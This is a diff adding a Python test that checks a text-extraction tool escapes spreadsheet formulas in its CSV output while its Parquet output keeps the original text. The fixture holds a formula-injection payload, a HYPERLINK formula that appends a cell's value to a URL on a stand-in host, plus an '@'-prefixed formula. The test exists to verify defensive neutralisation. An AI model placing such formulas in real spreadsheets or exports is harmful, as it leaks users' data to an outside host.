@@ -143,3 +143,21 @@ def test_an_output_folder_that_contains_the_input_still_reads_the_input(tmp_path
     manifest = json.loads((out / "summary.json").read_text())
     assert manifest["rows"]["documents"] == 6 and len(manifest["inputs"]) == 6
     assert set(manifest["tables"]) >= {"documents", "mentions", "quotes"}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_parquet_keeps_the_text(tmp_path):
+    import csv as csv_mod
+
+    src = tmp_path / "in"
+    src.mkdir()
+    (src / "formula.txt").write_text('=HYPERLINK("http://example.invalid/?"&A1,"x")\n\n'
+                                     "@SUM(1+1) said the Home Office.\n", encoding="utf-8")
+    extract([src], tmp_path / "out", cache_dir=tmp_path / "cache")
+    with open(tmp_path / "out" / "paragraphs.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv_mod.DictReader(fh))
+    with open(tmp_path / "out" / "documents.csv", newline="", encoding="utf-8") as fh:
+        doc = next(csv_mod.DictReader(fh))
+    assert doc["text"].startswith("'=HYPERLINK")
+    exact = read_table("documents", tmp_path / "out")
+    assert exact.loc[0, "text"].startswith("=HYPERLINK")  # Parquet: the exact text
+    assert all(not r[k].startswith(("=", "+", "@")) for r in rows for k in r)
